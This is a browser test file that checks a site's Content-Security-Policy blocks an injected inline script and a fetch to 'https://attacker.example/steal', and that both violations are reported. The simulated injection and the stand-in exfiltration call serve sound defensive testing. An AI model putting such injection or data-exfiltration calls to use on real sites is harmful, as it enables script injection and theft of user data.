// The Content-Security-Policy is enforced, and the CSP guard every browser test
// runs under (csp-guard.ts) does see violations: a test that cannot fail proves nothing.
import { expect, test } from './hydrated';

test('an injected inline script and a call to a foreign origin are blocked by the CSP and reported', async ({ page, cspViolations }) => {
  await page.goto('/services');
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true;';
    document.head.append(script);
    const fetched = await fetch('https://attacker.example/steal').then(
      () => 'sent',
      () => 'blocked',
    );
    return { injected: (window as unknown as { __injected?: boolean }).__injected === true, fetched };
  });
  expect(ran).toEqual({ injected: false, fetched: 'blocked' });
  await expect.poll(() => cspViolations.join('\n')).toMatch(/script-src-elem blocked inline/);
  await expect.poll(() => cspViolations.join('\n')).toMatch(/connect-src blocked https:\/\/attacker\.example\/steal/);
  // Seen and expected: the guard's check at the end of the test is for unexpected ones.
  cspViolations.length = 0;
});
